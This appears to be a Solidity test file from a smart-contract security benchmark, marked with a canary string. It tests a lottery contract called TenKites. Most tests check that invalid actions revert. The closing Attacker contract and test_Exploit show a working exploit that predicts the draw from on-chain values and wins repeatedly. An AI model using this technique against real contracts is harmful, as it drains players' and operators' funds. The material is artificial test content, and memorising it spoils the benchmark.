// SPDX-License-Identifier: MIT
// canary: assay-canary-1bb5b0ba-5633-46fd-b6d9-7deac446f9f0
pragma solidity 0.8.19;

import "./TenKites.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert() external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
}

/// Keeps a game of its own, and takes no ether.
contract Mast {
    TenKites public game = new TenKites(bytes32(uint256(1)));

    function withdraw() external {
        game.withdraw(1 ether);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    TenKites internal game;
    Attacker internal seer;
    address internal alice;
    bytes32[4] internal chain;

    function setUp() public {
        vm.warp(1750000000);
        vm.roll(1000);
        alice = vm.addr(0xA11CE);
        vm.deal(alice, 10 ether);

        // chain[3] is the end of the string, chain[0] the bead shown last
        chain[0] = keccak256("only the keeper knows this");
        for (uint256 i = 1; i < 4; i++) chain[i] = keccak256(abi.encode(chain[i - 1]));

        vm.deal(address(this), 12 ether);
        game = new TenKites{value: 12 ether}(chain[3]);

        // one round has been played already
        game.stopSale();
        game.show(chain[2]);

        seer = new Attacker(game);
        vm.deal(address(seer), 1 ether);
    }

    receive() external payable {}

    function test_Regular() public {
        uint256[] memory ids = new uint256[](10);
        for (uint8 k = 0; k < 10; k++) {
            vm.prank(alice);
            ids[k] = game.buy{value: 0.1 ether}(k);
        }
        require(game.sold() == 10 && game.reserved() == 9 ether, "sold");
        vm.prank(alice);
        vm.expectRevert();
        game.buy{value: 0.1 ether}(10);

        vm.expectRevert();
        game.show(chain[1]);
        game.stopSale();
        vm.prank(alice);
        vm.expectRevert();
        game.buy{value: 0.1 ether}(1);
        vm.expectRevert();
        game.show(chain[0]);
        vm.prank(alice);
        vm.expectRevert();
        game.show(chain[1]);
        game.show(chain[1]);
        require(game.round() == 2 && game.beads(2) == chain[1] && game.selling(), "shown");

        uint256 before = alice.balance;
        uint256 won = 0;
        for (uint8 k = 0; k < 10; k++) {
            if (game.drawn(ids[k]) == k) won += 0.9 ether;
            game.settle(ids[k]);
        }
        require(alice.balance == before + won, "prizes");
        require(game.reserved() == 0, "nothing kept back");
        vm.expectRevert();
        game.settle(ids[0]);
        vm.expectRevert();
        game.refund(ids[0]);

        vm.expectRevert();
        game.end();
        uint256 bank = address(game).balance;
        vm.expectRevert();
        game.withdraw(bank + 1);
        game.withdraw(bank);
        vm.warp(block.timestamp + 7 days + 1);
        game.end();
        require(game.ended() && !game.selling(), "ended");

        uint256 held = address(game).balance;
        (bool ok, ) = address(game).call{value: 1 ether}("");
        require(ok && address(game).balance == held + 1 ether, "filled");
    }

    // What is refused, each from the state after setUp().

    /// The keeper's business.
    function test_RefusesPlayers() public {
        vm.prank(alice);
        vm.expectRevert(TenKites.KeeperOnly.selector);
        game.stopSale();
        vm.prank(alice);
        vm.expectRevert(TenKites.KeeperOnly.selector);
        game.withdraw(1);
        game.stopSale();
        vm.expectRevert(TenKites.SaleClosed.selector);
        game.stopSale();
    }

    /// Tickets that are none, cost something else, or cannot be covered.
    function test_RefusesTickets() public {
        vm.prank(alice);
        vm.expectRevert(TenKites.BadTicket.selector);
        game.buy{value: 0.2 ether}(1);
        vm.expectRevert(TenKites.BadTicket.selector);
        game.drawn(99);
        vm.prank(alice);
        uint256 id = game.buy{value: 0.1 ether}(1);
        (, , uint64 round, ) = game.tickets(id);
        (bool told, ) = address(game).call(abi.encodeCall(game.drawn, (id)));
        require(told == (game.beads(round) != 0), "drawn before its bead");
        vm.expectRevert(TenKites.BankShort.selector);
        game.withdraw(11.5 ether);
        game.withdraw(11.2 ether);
        vm.prank(alice);
        vm.expectRevert(TenKites.BankShort.selector);
        game.buy{value: 0.1 ether}(1);
        vm.warp(block.timestamp + 7 days + 1);
        vm.prank(alice);
        vm.expectRevert(TenKites.SaleClosed.selector);
        game.buy{value: 0.1 ether}(1);
    }

    /// What a round that ended, or did not, does not allow.
    function test_RefusesEnds() public {
        vm.prank(alice);
        uint256 id = game.buy{value: 0.1 ether}(1);
        vm.expectRevert(TenKites.BadTicket.selector);
        game.refund(id);
        game.stopSale();
        vm.warp(block.timestamp + 7 days + 1);
        vm.expectRevert(TenKites.SaleClosed.selector);
        game.show(chain[1]);
        game.end();
        vm.expectRevert(TenKites.NotDue.selector);
        game.end();
        vm.expectRevert(TenKites.SaleClosed.selector);
        game.show(chain[1]);
        vm.expectRevert(TenKites.BadTicket.selector);
        game.refund(id + 1);
    }

    /// Nothing is paid to nobody, nor twice, nor to who takes no ether.
    function test_RefusesRefunds() public {
        vm.prank(alice);
        uint256 id = game.buy{value: 0.1 ether}(1);
        address stone = address(new Mast());
        vm.deal(stone, 0.1 ether);
        vm.prank(stone);
        uint256 lost = game.buy{value: 0.1 ether}(1);
        game.stopSale();
        vm.warp(block.timestamp + 7 days + 1);
        game.end();
        (, , uint64 round, ) = game.tickets(id);
        (bool back, ) = address(game).call(abi.encodeCall(game.refund, (id)));
        require(back == (game.beads(round) == 0), "a ticket that is drawn is not given back");
        (bool paid, ) = address(game).call(abi.encodeCall(game.refund, (lost)));
        require(!paid, "to who takes no ether");
        vm.expectRevert(TenKites.BadTicket.selector);
        game.refund(99);
    }

    /// The keeper may be somebody who takes no ether.
    function test_RefusesFailedPayments() public {
        Mast mast = new Mast();
        vm.deal(address(mast.game()), 1 ether);
        vm.expectRevert(TenKites.PaymentRefused.selector);
        mast.withdraw();
    }

    function exploit() public {
        seer.run(10);
    }

    function test_Exploit() public {
        uint256 before = address(seer).balance;
        exploit();
        require(address(seer).balance >= before + 8 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(game);
    }

    function attacker() public view returns (address) {
        return address(seer);
    }
}

contract Attacker {
    TenKites internal game;

    constructor(TenKites game_) {
        game = game_;
    }

    function run(uint256 times) external {
        bytes32 bead = game.beads(game.round());
        for (uint256 i = 0; i < times; i++) {
            bytes32 mark = keccak256(
                abi.encode(blockhash(block.number - 1), block.prevrandao, address(this), game.sold())
            );
            uint8 kite = uint8(uint256(keccak256(abi.encode(bead, mark))) % 10);
            uint256 id = game.buy{value: 0.1 ether}(kite);
            game.settle(id);
        }
    }

    receive() external payable {}
}
